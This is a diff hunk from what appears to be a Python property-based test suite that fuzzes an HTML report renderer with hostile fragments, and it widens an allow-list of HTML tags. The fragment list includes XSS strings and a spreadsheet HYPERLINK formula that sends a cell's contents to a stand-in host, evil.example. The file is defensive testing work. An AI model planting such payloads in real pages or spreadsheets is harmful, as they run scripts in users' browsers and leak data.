@@ -37,7 +37,9 @@ FRAGMENTS = ["<script>alert(1)</script>", "</td>", "<img src=x onerror=alert(1)>
              "]]>", "<!--", "\x00", "\x1b[31m", "\u202e", "\u200b", "\ufeff", "\u2028", "\ufffe", "\udce4", "\ud800",
              '=HYPERLINK("http://evil.example/?"&A1,"点击")', "某某区人民政府办公室", "[bold]", "[/]"]
 hostile = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.characters(codec=None)), max_size=8).map("".join)
-ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "h1", "h2", "table", "thead", "tbody", "tr", "th", "td"}
+ALLOWED_TAGS = {"html", "head", "meta", "title", "style", "body", "header", "main", "section", "div", "h1", "h2", "h3",
+                "h4", "p", "ul", "li", "span", "a", "input", "label", "table", "colgroup", "col", "thead", "tbody", "tr",
+                "th", "td"}  # the office's report (issue 11): its own markup only, never a report's
 
 
 @st.composite
